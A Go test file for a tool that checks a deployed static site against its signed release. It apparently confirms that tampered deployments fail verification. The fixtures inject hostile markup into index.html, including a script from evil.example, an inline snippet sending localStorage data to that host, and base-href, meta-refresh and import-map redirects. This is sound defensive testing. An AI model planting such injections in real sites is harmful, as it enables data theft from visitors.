package cli_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/lukium/kms-verify-action/internal/cli"
	"github.com/lukium/kms-verify-action/internal/demo"
	"github.com/lukium/kms-verify-action/internal/testkit/gitrepo"
	"github.com/lukium/kms-verify-action/internal/verdict"
)

// kmsRepo is the KMS-shaped example (testdata/demo/site) as a tagged
// repository, shared by the site tests.
var (
	kmsOnce   sync.Once
	kmsDir    string
	kmsCommit string
	kmsErr    error
)

func kmsSiteRepo(t *testing.T) (string, string) {
	t.Helper()
	kmsOnce.Do(func() {
		dir, err := os.MkdirTemp("", "kms-site-repo-")
		if err != nil {
			kmsErr = err
			return
		}
		kmsDir = filepath.Join(dir, "repo")
		kmsCommit, kmsErr = demo.CreateSiteRepo(t.Context(), os.DirFS("../.."), kmsDir)
	})
	if kmsErr != nil {
		t.Fatal(kmsErr)
	}
	return kmsDir, kmsCommit
}

// deployed is the committed deployed copy of the example.
func deployed(t *testing.T) map[string][]byte {
	t.Helper()
	files, err := demo.SiteFiles(os.DirFS("../.."))
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// serveSite serves files with their _headers applied, as Cloudflare Pages does.
func serveSite(t *testing.T, files map[string][]byte) string {
	t.Helper()
	h, err := demo.SiteHandler(files)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return srv.URL
}

// buildSite runs the example's build on src and returns the output folder
// as a deployment would serve it (URL path -> bytes).
func buildSite(t *testing.T, src map[string]string) map[string][]byte {
	t.Helper()
	dir := t.TempDir()
	for p, body := range src {
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cmd := exec.CommandContext(t.Context(), "sh", "build.sh")
	cmd.Dir = dir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "SOURCE_DATE_EPOCH=1"}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	out := map[string][]byte{}
	root := filepath.Join(dir, "dist", "enclave")
	err := filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		data, err := os.ReadFile(p)
		out["/"+filepath.ToSlash(rel)] = data
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func siteArgs(repo, siteURL string, extra ...string) []string {
	return append([]string{"verify", "--repo", repo, "--tag", demo.SiteTag, "--build-command", "sh build.sh",
		"--site-dir", demo.SiteDir, "--site-url", siteURL + "/", "--site-exclude", demo.SiteManifest, "--allow-unsigned"}, extra...)
}

// findFile returns the deployed path that starts with prefix.
func findFile(t *testing.T, files map[string][]byte, prefix string) string {
	t.Helper()
	for k := range files {
		if strings.HasPrefix(k, prefix) {
			return k
		}
	}
	t.Fatalf("no deployed file %s*", prefix)
	return ""
}

// TestKMSSiteHostileVariants: the KMS-shaped site verifies; each hostile
// deployment fails with the intended exit code and reason, and none is
// reported verified.
func TestKMSSiteHostileVariants(t *testing.T) {
	t.Parallel()
	repo, _ := kmsSiteRepo(t)
	inject := func(snippet string) func(t *testing.T, m map[string][]byte) {
		return func(t *testing.T, m map[string][]byte) {
			m["/index.html"] = []byte(strings.Replace(string(m["/index.html"]), "<head>", "<head>"+snippet, 1))
		}
	}
	for _, tc := range []struct {
		name   string
		change func(t *testing.T, m map[string][]byte)
		code   int
		reason string
	}{
		{name: "the deployment as built", code: cli.ExitVerified, reason: "ok"},
		{name: "an injected script without integrity", change: inject(`<script src="https://evil.example/steal.js"></script>`), code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "an injected inline script", change: inject(`<script>new Image().src="https://evil.example/?"+localStorage.key</script>`), code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a base href that moves relative URLs", change: inject(`<base href="https://evil.example/">`), code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a meta refresh", change: inject(`<meta http-equiv="refresh" content="0; url=https://evil.example/kms">`), code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "an import map pointing elsewhere", change: inject(`<script type="importmap">{"imports":{"./kms-worker.js":"https://evil.example/w.js"}}</script>`), code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a lazily loaded worker tampered while the page is intact", change: func(t *testing.T, m map[string][]byte) {
			k := findFile(t, m, "/assets/kms-worker.")
			m[k] = append([]byte("self.postMessage(1);"), m[k]...)
		}, code: cli.ExitFailed, reason: "tampered"},
		{name: "a release file the deployment lacks (404)", change: func(t *testing.T, m map[string][]byte) {
			delete(m, findFile(t, m, "/images/favicon"))
		}, code: cli.ExitInconclusive, reason: "site-file-missing"},
		{name: "index.html served differently at the folder URL", change: func(t *testing.T, m map[string][]byte) {
			m["/"] = nil // placeholder: handled below
		}, code: cli.ExitFailed, reason: "unverified-subresource"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			files := deployed(t)
			var dirPage []byte
			if tc.change != nil {
				tc.change(t, files)
				if _, ok := files["/"]; ok {
					delete(files, "/")
					dirPage = []byte(strings.Replace(string(files["/index.html"]), "<head>", `<head><script src="/evil.js"></script>`, 1))
				}
			}
			u := serveSite(t, files)
			if dirPage != nil {
				// The CDN answers the folder URL with other bytes than /index.html.
				h, _ := demo.SiteHandler(files)
				srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					if r.URL.Path == "/" {
						_, _ = w.Write(dirPage)
						return
					}
					h.ServeHTTP(w, r)
				}))
				t.Cleanup(srv.Close)
				u = srv.URL
			}
			res := run(t, runOpts{}, siteArgs(repo, u)...)
			if res.code != tc.code || res.rep == nil || res.rep.Reason != tc.reason {
				reason := ""
				if res.rep != nil {
					reason = res.rep.Reason
				}
				t.Fatalf("exit %d reason %q, want %d %q\n%s%s", res.code, reason, tc.code, tc.reason, res.stdout, res.stderr)
			}
			if tc.code != cli.ExitVerified {
				if strings.Contains(res.stdout, "VERIFICATION PASSED") || res.rep.Verdict == verdict.Verified {
					t.Fatal("a hostile deployment is reported verified")
				}
				return
			}
			s := res.rep.Sites[0]
			if len(s.Pages) != 2 || len(s.Excluded) != 2 {
				t.Errorf("pages %d (want index.html twice), excluded %+v", len(s.Pages), s.Excluded)
			}
			for _, want := range []string{"excluded .well-known/kms-manifest.json", "📄 index.html at", "module", "stylesheet", "accounted for"} {
				if !strings.Contains(res.stdout, want) {
					t.Errorf("the summary does not say %q:\n%s", want, res.stdout)
				}
			}
		})
	}
}

// TestKMSSiteReleaseRules: what the release itself references is accounted
// for by the same rules (the page bytes match, so only the rules decide).
func TestKMSSiteReleaseRules(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name   string
		markup string
		extra  []string
		code   int
		reason string
	}{
		{name: "pins in inert markup do not fail", markup: `<template><script src="https://evil.example/x.js" integrity="sha384-bad"></script></template><script type="text/plain" src="/nope.js" integrity="sha384-bad"></script><!-- <script src="https://evil.example/c.js"></script> -->`,
			code: cli.ExitVerified, reason: "ok"},
		{name: "a release page loading an unlisted script", markup: `<script src="https://cdn.example.net/analytics.js"></script>`, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "the same script allow-listed", markup: `<script src="https://cdn.example.net/analytics.js"></script>`,
			extra: []string{"--allow-subresource", "https://cdn.example.net/*"}, code: cli.ExitVerified, reason: "ok"},
		{name: "allow-listed only with a pin it lacks", markup: `<script src="https://cdn.example.net/analytics.js"></script>`,
			extra: []string{"--allow-subresource", "https://cdn.example.net/analytics.js sha384-AAAA"}, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a release file loaded with a query string", markup: `<link rel="stylesheet" href="/images/kms-logo.svg?v=2">`, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "an unlisted cross-origin iframe", markup: `<iframe src="https://enclave.example.net/"></iframe>`, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a page that loads an excluded file", extra: []string{"--site-exclude", "assets/*.mjs"}, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a modulepreload of a file the release does not have", markup: `<link rel="modulepreload" href="/assets/late.mjs">`, code: cli.ExitFailed, reason: "unverified-subresource"},
		{name: "a listed cross-origin iframe", markup: `<iframe src="https://enclave.example.net/"></iframe>`, extra: []string{"--allow-frame", "https://enclave.example.net"}, code: cli.ExitVerified, reason: "ok"},
		{name: "a same-origin iframe of the release", markup: `<iframe src="/index.html"></iframe>`, code: cli.ExitVerified, reason: "ok"},
		{name: "a same-origin iframe outside the release", markup: `<iframe src="/admin.html"></iframe>`, code: cli.ExitFailed, reason: "unverified-subresource"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			src, err := demo.SiteSource(os.DirFS("../.."))
			if err != nil {
				t.Fatal(err)
			}
			src["src/index.html"] = strings.Replace(src["src/index.html"], "</body>", tc.markup+"\n</body>", 1)
			repo := gitrepo.New(t, src, gitrepo.Tag{Name: demo.SiteTag, Annotated: true})
			files := buildSite(t, src)
			res := run(t, runOpts{}, siteArgs(repo.Dir, serveSite(t, files), tc.extra...)...)
			if res.code != tc.code || res.rep == nil || res.rep.Reason != tc.reason {
				t.Fatalf("exit %d, want %d %q\n%s%s", res.code, tc.code, tc.reason, res.stdout, res.stderr)
			}
		})
	}
}

// TestKMSSiteExampleConfig: the example configuration parses, and the same
// shape (one site, the module signed as an artifact inside it, no url)
// verifies in action mode with a real signature.
func TestKMSSiteActionMode(t *testing.T) {
	t.Parallel()
	w := getWorld(t)
	repo, commit := kmsSiteRepo(t)
	files := deployed(t)
	module := findFile(t, files, "/assets/kms.")
	if !strings.HasSuffix(module, ".mjs") {
		module = findFile(t, files, "/assets/kms.f")
	}
	bundle := sign(t, w, files[module], sigstoreIdentityFor(signerRepo, workflow, demo.SiteTag, commit))
	u := serveSite(t, files)
	cfg := fmt.Sprintf(`site:
  name: kms-enclave
  dir: %s
  url: %s/
  exclude:
    - %s
artifacts:
  - name: kms-module
    artifact: %s
`, demo.SiteDir, u, demo.SiteManifest, demo.SiteModuleGlob)
	cfgPath := filepath.Join(t.TempDir(), "kms-verify.yml")
	if err := os.WriteFile(cfgPath, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	c := newCDN(t, serve(nil))
	env, outFile, sumFile := actionEnv(t, w, c, bundle, "sh build.sh")
	for _, k := range []string{"INPUT_ARTIFACT", "INPUT_URL", "INPUT_PAGE-URL"} {
		delete(env, k)
	}
	env["INPUT_REPO"], env["INPUT_TAG"], env["INPUT_CONFIG"] = repo, demo.SiteTag, cfgPath
	res := run(t, runOpts{env: env}, "action")
	if res.code != cli.ExitVerified {
		t.Fatalf("exit %d\n%s\n%s", res.code, res.stdout, res.stderr)
	}
	outs := parseOutputs(t, outFile)
	if got := outs["verdict"]; len(got) != 1 || got[0] != "verified" {
		t.Errorf("verdict output %q", got)
	}
	sum, _ := os.ReadFile(sumFile)
	for _, want := range []string{"## Site", "kms-manifest.json", "accounted for", "VERIFIED"} {
		if !strings.Contains(string(sum), want) {
			t.Errorf("job summary lacks %q:\n%s", want, sum)
		}
	}
}

// TestKMSSiteExampleConfigParses keeps the committed example configuration valid.
func TestKMSSiteExampleConfigParses(t *testing.T) {
	t.Parallel()
	res := run(t, runOpts{}, "verify", "--config", "../../"+demo.SiteConfigFile, "--tag", "not a tag!")
	if res.code != cli.ExitUsage || !strings.Contains(res.stderr+res.stdout, "tag") {
		t.Fatalf("exit %d: the example config should parse and only the bad --tag be refused\n%s%s", res.code, res.stdout, res.stderr)
	}
}
